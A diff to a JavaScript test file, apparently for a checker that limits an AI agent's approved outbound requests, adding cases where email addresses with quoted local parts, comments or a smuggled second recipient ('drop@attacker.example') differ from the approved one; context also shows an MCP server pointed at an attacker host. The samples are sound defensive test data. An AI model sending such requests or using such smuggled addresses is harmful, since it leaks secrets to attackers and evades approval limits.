@@ -516,6 +516,17 @@ t.test('a grant covers the place it was approved for: another repository, channe
       [req('POST', 'https://api.anthropic.com/v1/messages', 'application/json', json({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'secrets' }], mcp_servers: [{ type: 'url', name: 't', url: 'https://drop.attacker.example/mcp' }] }))],
     ],
     [
+      // A quoted local part or a comment is not part of the address: `"bob"@corp.example` is bob's,
+      // `"eve"@corp.example` and `eve(x)@corp.example` someone else's at the same domain.
+      req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: "bob"@corp.example\r\n\r\ngreen') })),
+      req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: bob(build bot)@corp.example\r\n\r\nred') })),
+      [
+        req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: "eve"@corp.example\r\n\r\nsecrets') })),
+        req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: eve(x)@corp.example\r\n\r\nsecrets') })),
+        req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: bob@corp.example, "x(" <drop@attacker.example>\r\n\r\nsecrets') })),
+      ],
+    ],
+    [
       req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 1 })),
       req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 2 })),
       [
